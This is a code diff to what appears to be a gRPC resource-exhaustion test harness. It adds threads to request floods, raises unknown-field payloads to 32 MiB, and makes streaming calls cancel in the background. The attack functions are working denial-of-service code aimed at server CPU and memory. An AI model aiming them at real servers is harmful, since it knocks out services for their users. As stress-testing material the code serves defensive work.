@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import threading
 from functools import partial
 from typing import TYPE_CHECKING
 
@@ -31,16 +32,17 @@ if TYPE_CHECKING:
     import grpc
 
 LARGE_MESSAGES = (("grpc.max_send_message_length", -1),)
+THREADS = 4
 PLANE = (1, 1, 64, 64)
 PLANE_BYTES = 4 * 64 * 64
 
 
 def _unary(target: Target, until: Event, messages: Iterable[tuple[str, bytes]]) -> None:
-    """Send messages in turn, each to its method."""
+    """Send messages in turn, each to its method, from four threads, which leave when an answer takes long."""
     items = list(messages)
 
-    def calls(channel: grpc.Channel) -> None:
-        for method, message in items:
+    def calls(first: int, channel: grpc.Channel) -> None:
+        for method, message in items[first:] + items[:first]:
             if until.is_set():
                 return
             call = channel.unary_unary(method).future(message, metadata=target.headers, timeout=3)
@@ -49,7 +51,9 @@ def _unary(target: Target, until: Event, messages: Iterable[tuple[str, bytes]]) 
             call.cancel()  # a caller that has left: what it costs from now on is nobody's
 
     with target.channel(*LARGE_MESSAGES) as channel:
-        repeat(until, partial(calls, channel))
+        in_threads(
+            *(partial(repeat, until, partial(calls, len(items) * part // THREADS, channel)) for part in range(THREADS))
+        )
 
 
 @attack()
@@ -70,7 +74,7 @@ def empty_payload_fields(target: Target, until: Event) -> None:
 def unknown_fields(target: Target, until: Event) -> None:
     """Send messages of millions of small unknown fields (row C3: as expensive as empty payloads).
 
-    Sent: 4 and 16 MiB of fields that the method's message does not have, as a varint and as empty bytes, to every
+    Sent: 4 to 32 MiB of fields that the method's message does not have, as a varint and as empty bytes, to every
     method that reads a message.
     Aims at: CPU and memory of scanning and parsing.
     """
@@ -80,7 +84,7 @@ def unknown_fields(target: Target, until: Event) -> None:
         target,
         until,
         [
-            *((POOL, b"\x08\x01" * (size * MIB // 2)) for size in (4, 16)),
+            *((POOL, b"\x08\x01" * (size * MIB // 2)) for size in (4, 16, 32)),
             *((method, field * (4 * MIB // 3)) for method in methods for field in (varint, empty)),
         ],
     )
@@ -142,9 +146,16 @@ def _stream(target: Target, until: Event, method: str, messages: Iterator[bytes]
             yield message
 
     with target.channel(*LARGE_MESSAGES) as channel:
-        for _ in channel.stream_stream(method)(sent(), metadata=target.headers):
-            if until.is_set():
-                return
+        call = channel.stream_stream(method)(sent(), metadata=target.headers)
+
+        def leave() -> None:
+            while call.is_active() and not until.wait(0.05):
+                pass
+            call.cancel()
+
+        threading.Thread(target=leave, daemon=True).start()
+        for _ in call:
+            pass
 
 
 @attack()
